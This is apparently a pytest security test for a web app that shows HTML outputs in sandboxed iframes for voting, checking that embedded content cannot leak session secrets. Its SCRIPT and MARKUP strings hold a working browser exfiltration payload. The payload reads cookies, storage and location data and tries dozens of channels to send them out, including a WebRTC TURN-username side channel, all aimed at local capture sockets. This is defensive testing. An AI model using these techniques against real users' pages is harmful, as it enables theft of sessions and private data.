"""What an HTML output can reach: nothing at all without scripts, and no secret with them.

An output tries every way out that a browser has, towards sockets on this machine that take note of whatever comes.
"""

import html
import json
import socket
import struct
import threading
import time
from urllib.parse import unquote_to_bytes

import pytest

from .conftest import Live

ARMS = ["ant", "bee"]

LOOK = """
const look = {
  href: () => location.href, url: () => document.URL, base: () => document.baseURI,
  referrer: () => document.referrer, name: () => window.name, cookie: () => document.cookie,
  ancestors: () => [...location.ancestorOrigins].join(), parent: () => parent.location.href,
  top: () => top.location.href, title: () => parent.document.title, storage: () => JSON.stringify(localStorage),
  opener: () => String(opener && opener.location.href), state: () => JSON.stringify(history.state),
  entries: () => performance.getEntries().map((one) => one.name).join(),
  navigation: () => navigation.entries().map((one) => one.url).join(),
};
const seen = {};
for (const [what, get] of Object.entries(look)) {
  try { seen[what] = get(); } catch (error) { seen[what] = error.name; }
}
"""
CALL = """
function call(words, how) {
  try {
    const server = { urls: `turn:127.0.0.1:UDP?transport=udp`, username: (how + words).slice(0, 500), credential: "x" };
    const peer = new RTCPeerConnection({ iceServers: [server], iceTransportPolicy: "relay" });
    peer.createDataChannel("x");
    peer.createOffer().then((offer) => peer.setLocalDescription(offer));
    window["peer" + how + Math.random()] = peer;
  } catch (error) { }
}
"""
SCRIPT = f"""
{LOOK}
{CALL}
const words = JSON.stringify(seen), at = "127.0.0.1:TCP/?" + encodeURIComponent(words), url = "http://" + at;
const attempts = [
  () => fetch(url + "fetch", {{ mode: "no-cors" }}), () => navigator.sendBeacon(url + "beacon", words),
  () => {{ const one = new XMLHttpRequest(); one.open("POST", url + "xhr"); one.send(words); }},
  () => new WebSocket("ws://" + at), () => new EventSource(url), () => new Worker(url), () => window.open(url),
  () => new WebTransport("https://" + at), () => import(url), () => {{ new Image().src = url; }},
  () => parent.postMessage(words, "*"), () => top.postMessage({{ type: "ask" }}, "*"),
  ...["prefetch", "preload", "stylesheet", "modulepreload"].map((rel) => () =>
    document.head.append(Object.assign(document.createElement("link"), {{ rel, href: url, as: "script" }}))),
  ...["_self", "_blank", "_top", "inner"].map((target) => () => {{
    const form = Object.assign(document.createElement("form"), {{ action: url, method: "post", target }});
    document.body.append(form); form.submit();
  }}),
  () => document.body.append(Object.assign(document.createElement("iframe"), {{ src: url, name: "inner" }})),
  () => call(words, "outer"),
  () => {{
    const inner = document.createElement("iframe");
    inner.srcdoc = "<script>{" ".join(LOOK.split())}" + call + "call(" + JSON.stringify(words) + ", 'inner');"
      + "call(JSON.stringify(seen), 'frame');" + "<\\/script>";
    document.body.append(inner);
  }},
  () => {{ onmessage = (event) => call(JSON.stringify(event.data), "message"); }},
  () => setTimeout(() => {{ top.location = url; }}, 1500), () => setTimeout(() => {{ location = url; }}, 2000),
];
for (const attempt of attempts) {{ try {{ Promise.resolve(attempt()).catch(() => {{}}); }} catch (error) {{ }} }}
document.getElementById("found").textContent = "ran";
"""
LINKS = "".join(
    f'<link rel="{rel}" href="http://127.0.0.1:TCP/{rel}" as="script">'
    for rel in ("preconnect", "dns-prefetch", "prefetch", "preload", "stylesheet", "icon", "manifest", "prerender")
)
MARKUP = f"""<!doctype html><html><head>{LINKS}<meta http-equiv="refresh" content="0; url=http://127.0.0.1:TCP/refresh">
<style>@import "http://127.0.0.1:TCP/import"; body {{ background: url(http://127.0.0.1:TCP/css) }}
@font-face {{ font-family: x; src: url(http://127.0.0.1:TCP/font) }} p {{ font-family: x }}</style></head>
<body onload="document.title = 'ran'"><p id="found">still</p>
<img src="http://127.0.0.1:TCP/img" onerror="SCRIPT"><video src="http://127.0.0.1:TCP/video" autoplay></video>
<object data="http://127.0.0.1:TCP/object"></object><embed src="http://127.0.0.1:TCP/embed">
<iframe src="http://127.0.0.1:TCP/frame"></iframe><IFRAME
 SRCDOC="{html.escape(LINKS)}<script>document.body.innerHTML='ran'</script>"></IFRAME>
<svg><use href="http://127.0.0.1:TCP/use#x"/><image href="http://127.0.0.1:TCP/image"/></svg>
<form id="form" action="http://127.0.0.1:TCP/form"><input name="x" value="y"><button id="send">send</button></form>
<a id="here" href="http://127.0.0.1:TCP/here" ping="http://127.0.0.1:TCP/ping">here</a>
<a id="tab" href="http://127.0.0.1:TCP/tab" target="_blank">tab</a>
<a id="top" href="http://127.0.0.1:TCP/top" target="_top">top</a>
<script>{SCRIPT}</script></body></html>"""


class Sink:
    """Sockets that take note of all they get; the one for UDP asks for a name, as TURN servers do."""

    def __init__(self):
        self.got = []
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        for work in (self._accept, self._receive):
            threading.Thread(target=work, daemon=True).start()

    def _accept(self):
        while True:
            try:
                connection, _ = self.tcp.accept()
            except OSError:
                return
            self.got.append(b"tcp: a connection")
            threading.Thread(target=self._read, args=(connection,), daemon=True).start()

    def _read(self, connection):
        with connection:
            connection.settimeout(5)
            try:
                while data := connection.recv(65536):
                    self.got.append(b"tcp: " + data)
            except OSError:
                pass

    def _receive(self):
        while True:
            try:
                data, peer = self.udp.recvfrom(65536)
            except OSError:
                return
            self.got.append(b"udp: " + data)
            if len(data) >= 20 and data[:2] == b"\0\3":  # Allocate: who are you?
                self.udp.sendto(unauthorized(data[4:20]), peer)

    def filled(self, page):
        """A page with the addresses of these sockets."""
        tcp, udp = self.tcp.getsockname()[1], self.udp.getsockname()[1]
        return page.replace(":TCP", f":{tcp}").replace(":UDP", f":{udp}")

    def close(self):
        self.tcp.close()
        self.udp.close()


def unauthorized(transaction):
    def attribute(kind, value):
        return struct.pack(">HH", kind, len(value)) + value + b"\0" * (-len(value) % 4)

    body = attribute(9, b"\0\0\4\1") + attribute(0x14, b"realm") + attribute(0x15, b"nonce")
    return struct.pack(">HH", 0x113, len(body)) + transaction + body


@pytest.fixture
def sink():
    made = Sink()
    yield made
    made.close()


@pytest.fixture(scope="module")
def place(tmp_path_factory):
    """A server, and a client of its API."""
    live = Live(f"sqlite:///{tmp_path_factory.mktemp('outputs')}/duels.db")
    with live.client() as api:
        yield live, api
    live.stop()


def begin(api, page, scripts=None):
    """A study whose outputs are all that page; the secret of a link to it."""
    api.delete("/api/studies/pages")
    assert api.post("/api/studies", json={"name": "pages", "arms": ARMS}).status_code == 201
    outputs = {arm: {"kind": "html", "content": page} for arm in ARMS}
    added = api.post("/api/studies/pages/items", content=json.dumps({"prompt": "Which?", "outputs": outputs}))
    assert added.status_code == 201, added.text
    if scripts is not None:
        assert api.post("/api/studies/pages/scripts", json={"scripts": scripts}).json() == {"scripts": scripts}
    return api.post("/api/studies/pages/links", json={"votes": 9}).json()["secret"]


def opened(chromium, live, link):
    """The voting page in the browser of somebody who is signed in too, and its first output."""
    context = chromium.new_context()
    context.request.post(f"{live.url}/signin", form={"token": live.token}, headers={"Origin": live.url})
    page = context.new_page()
    page.goto(f"{live.url}/vote/{link}")
    frame = page.locator("#output-a iframe")
    frame.wait_for()
    return page, frame


def test_without_scripts_nothing_gets_out(chromium, place, sink):
    live, api = place
    page, frame = opened(chromium, live, begin(api, sink.filled(MARKUP)))
    output = frame.content_frame
    output.locator("#found").wait_for()
    time.sleep(1)
    assert frame.get_attribute("sandbox") == ""
    assert output.locator("#found").inner_text() == "still"
    for name in ("send", "tab", "top", "here"):
        output.locator(f"#{name}").click(timeout=5000)
        time.sleep(0.2)
    time.sleep(0.5)
    assert output.locator("#found").inner_text() == "still"
    assert sink.got == []
    assert len(page.context.pages) == 1
    page.context.close()


def test_with_scripts_no_secret_gets_out(chromium, place, sink):
    live, api = place
    link = begin(api, sink.filled(f"<p id=found>still</p><script>{SCRIPT}</script>"), scripts=True)
    page, frame = opened(chromium, live, link)
    assert frame.get_attribute("sandbox") == "allow-scripts"
    ways, end = (b"outer{", b"inner{", b"frame{"), time.monotonic() + 15
    while time.monotonic() < end and not all(way in b"".join(sink.got) for way in ways):
        time.sleep(0.1)
    time.sleep(2)  # the script leaves last
    got = b"\n".join(sink.got)
    assert all(way in got for way in ways), "calls by WebRTC cannot be forbidden, or the test does not work any more"
    assert b"/output/" in got
    assert b"message" not in got  # the voting page answers nothing
    cookies = {one["name"]: one["value"] for one in page.context.cookies()}
    assert set(cookies) == {"duels_session", "duels_ballot"}
    for secret in (link, live.token, *cookies.values()):
        assert secret.encode() not in got
        assert secret.encode() not in unquote_to_bytes(got)
    assert not any(part.startswith(b"tcp: ") and len(part) > len(b"tcp: a connection") for part in sink.got)
    assert page.url == f"{live.url}/vote/{link}"
    page.context.close()


def test_turning_scripts_on_says_what_that_means(chromium, place):
    live, api = place
    link = begin(api, "<p id=found>still</p><script>found.textContent = 'ran'</script>")
    page, frame = opened(chromium, live, link)
    assert frame.content_frame.locator("#found").inner_text() == "still"
    board = page.context.new_page()
    board.goto(f"{live.url}/studies/pages/items")
    assert "can send what it shows" in board.locator("#scripts-state").inner_text()
    board.get_by_role("button", name="Turn scripts on").click()
    assert "to other computers" in board.locator("#confirm-words").inner_text()
    board.get_by_role("button", name="Turn on", exact=True).click()
    board.get_by_role("button", name="Turn scripts off").wait_for()
    assert api.get("/api/studies/pages/scripts").json() == {"scripts": True}
    page.reload()
    frame.content_frame.get_by_text("ran").wait_for()
    board.get_by_role("button", name="Turn scripts off").click()
    board.get_by_role("button", name="Turn scripts on").wait_for()
    page.reload()
    frame.content_frame.get_by_text("still").wait_for()
    page.context.close()
